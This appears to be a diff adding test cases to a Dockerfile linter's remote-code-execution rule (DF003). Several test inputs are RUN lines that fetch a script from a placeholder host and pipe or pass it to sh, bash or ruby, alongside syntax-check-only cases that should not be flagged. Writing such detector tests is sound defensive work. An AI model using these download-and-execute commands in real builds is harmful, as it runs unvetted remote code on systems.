@@ -45,7 +45,10 @@ describe('DF003 remote-code-execution', () => {
     ['wget default name then bash', 'FROM debian\nRUN wget https://x.example/setup.sh && bash setup.sh --yes\n', 'bash'],
     ['saved in one RUN, run in the next', 'FROM debian\nRUN curl -o /tmp/i.sh https://x.example/i.sh\nRUN sh /tmp/i.sh\n', 'RUN sh'],
     ['saved then fed to stdin', 'FROM debian\nRUN curl -o /tmp/i.sh https://x.example/i.sh && sh < /tmp/i.sh\n', '&& sh'],
-    ['saved in cwd, run by path', 'FROM debian\nRUN cd /tmp && curl -O https://x.example/i.sh && bash /tmp/i.sh\n', 'bash']
+    ['saved in cwd, run by path', 'FROM debian\nRUN cd /tmp && curl -O https://x.example/i.sh && bash /tmp/i.sh\n', 'bash'],
+    ['a syntax check, then the run', 'FROM debian\nRUN curl -o i.sh https://x.example/i.sh && sh -n i.sh && sh i.sh\n', '&& sh i.sh'],
+    ['-n given after the script (an argument of the script)', 'FROM debian\nRUN curl -o i.sh https://x.example/i.sh && bash i.sh -n\n', 'bash'],
+    ['ruby -e (not a syntax check)', 'FROM ruby:3\nRUN curl -fsSL https://x.example/i.rb | ruby\n', '| ruby']
   ])('fires on %s', (_name, text, sink) => {
     expect(dockerfile('DF003', text)).toEqual([`${at(text, sink)} high`])
   })
@@ -81,6 +84,12 @@ describe('DF003 remote-code-execution', () => {
     ['a loop over a download', 'FROM debian\nRUN while read -r p; do echo "$p"; done < <(curl -s https://x.example/list)\n'],
     ['echo of a download command', `FROM debian\nRUN echo "curl https://x.example/i.sh | sh"\n`],
     ['a comment', 'FROM debian\n# RUN curl https://x.example/i.sh | sh\nRUN true\n'],
+    ['a syntax check of a downloaded script (sh -n)', 'FROM debian\nRUN curl -fsSLo i.sh https://x.example/i.sh && sh -n i.sh\n'],
+    ['a syntax check in a cluster (bash -nv)', 'FROM debian\nRUN curl -fsSLo i.sh https://x.example/i.sh && bash -nv i.sh\n'],
+    ['a syntax check by -o noexec', 'FROM debian\nRUN curl -fsSLo i.sh https://x.example/i.sh && bash -o noexec i.sh\n'],
+    ['a piped syntax check', 'FROM debian\nRUN curl -fsSL https://x.example/i.sh | sh -n\n'],
+    ['bash --version after a download', 'FROM debian\nRUN curl -fsSL https://x.example/i.sh | bash --version\n'],
+    ['ruby -c, php -l, node --check of downloads', 'FROM debian\nRUN curl -o a.rb https://x.example/a.rb && ruby -c a.rb && curl -o b.php https://x.example/b.php && php -l b.php && curl -o c.js https://x.example/c.js && node --check c.js\n'],
     ['a download into a variable', 'FROM debian\nRUN VERSION="$(curl -s https://x.example/version)" && echo "$VERSION"\n']
   ])('does not fire on %s', (_name, text) => {
     expect(dockerfile('DF003', text)).toEqual([])
